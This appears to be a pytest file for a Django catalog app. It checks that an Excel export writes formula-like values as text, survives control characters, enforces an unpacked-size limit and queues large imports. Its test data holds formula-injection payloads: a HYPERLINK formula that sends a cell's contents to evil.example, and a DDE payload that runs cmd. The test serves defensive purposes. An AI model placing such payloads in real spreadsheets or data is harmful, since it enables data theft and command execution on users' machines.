"""The list export writes stored text as text (issue 9 item 7): a value that a spreadsheet would run as a
formula stays a string cell, a control character in a field no longer fails the export, and the export
imports back to the same draft. Values are stored through the ORM, as a draft written before any input rule
refused such characters would hold them. The import shares the officers' limits and queue (tests/agencies)."""

from __future__ import annotations

import io
import zipfile

import openpyxl
from tests.agencies.test_import_limits import rezip
from tests.catalog.test_catalog_import import ITEM_HEADERS, item_row, upload, workbook

from zhifa.catalog.models import EnforcementItem
from zhifa.core import sweeps

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "fees": "+1",
    "time_limit": "@SUM(1+1)*cmd|' /C calc'!A0",
    "remedy": "-2+3",
    "office_hours": "\t=1+1",
}


def test_export_writes_formula_like_text_as_text_and_reads_back_the_same(cat, editor):
    cat.item()
    EnforcementItem.objects.filter(code="ZR-CF-001").update(**HOSTILE)

    r = editor.get(f"/catalog/a/{cat.cast.nr.pk}/items/export.xlsx")

    assert r.status_code == 200
    with zipfile.ZipFile(io.BytesIO(r.content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no cell holds a formula
    sheet = openpyxl.load_workbook(io.BytesIO(r.content))["行政执法事项清单"]
    headers = [c.value for c in sheet[1]]
    cells = {headers[i]: c for i, c in enumerate(sheet[2])}
    for header, value in (("事项名称", HOSTILE["name"]), ("收费标准", "+1"), ("办理时限", HOSTILE["time_limit"]),
                          ("救济渠道", "-2+3"), ("办公时间", "\t=1+1")):
        assert cells[header].value == value
        assert cells[header].data_type == "s"
        assert cells[header].quotePrefix  # Excel keeps it text even when the cell is edited

    again = upload(editor, cat.cast.nr, "items", r.content)

    assert again.status_code == 200
    item = EnforcementItem.objects.get(code="ZR-CF-001")  # 办公时间 comes back without its tab: imports strip
    assert (item.name, item.fees, item.time_limit, item.remedy) == (
        HOSTILE["name"], "+1", HOSTILE["time_limit"], "-2+3")


def test_a_control_character_in_a_field_does_not_break_the_export(cat, editor):
    cat.item()
    EnforcementItem.objects.filter(code="ZR-CF-001").update(name="对非法\x07占用土地的行政处罚")
    cat.cast.nr_team.name = "执法\x1b监察支队"
    cat.cast.nr_team.save(update_fields=["name"])

    r = editor.get(f"/catalog/a/{cat.cast.nr.pk}/items/export.xlsx")
    template = editor.get(f"/catalog/a/{cat.cast.nr.pk}/items/template.xlsx")

    assert r.status_code == 200 and template.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(r.content))["行政执法事项清单"]
    assert sheet.cell(row=2, column=2).value == "对非法\ufffd占用土地的行政处罚"


def test_the_unpacked_limit_is_a_setting_and_applies_to_the_catalog_import(cat, editor, settings):
    settings.ZHIFA_IMPORT_MAX_UNPACKED_BYTES = 2**20
    template = editor.get(f"/catalog/a/{cat.cast.nr.pk}/items/template.xlsx").content
    padded = rezip(template, add={"xl/media/image1.bin": 2 * 2**20})

    response = upload(editor, cat.cast.nr, "items", padded)

    assert response.status_code == 422
    assert "超过1 MB的上限" in response.content.decode()


def test_a_big_list_import_is_queued_and_run_by_the_worker(cat, editor, settings, tmp_path):
    settings.ZHIFA_IMPORT_QUEUE_ROWS = 2
    settings.ZHIFA_IMPORT_DIR = tmp_path
    rows = [item_row(f"ZR-CF-00{i}", f"事项{i}") for i in range(1, 4)]

    response = upload(editor, cat.cast.nr, "items", workbook("行政执法事项清单", ITEM_HEADERS, rows))

    assert response.status_code == 302
    assert not EnforcementItem.objects.exists()
    sweeps.run(["imports"])
    page = editor.get(response["Location"]).content.decode()
    assert "共3项：新增3项" in page
    assert f'href="/catalog/a/{cat.cast.nr.pk}/items/"' in page
    assert EnforcementItem.objects.filter(list__agency=cat.cast.nr).count() == 3
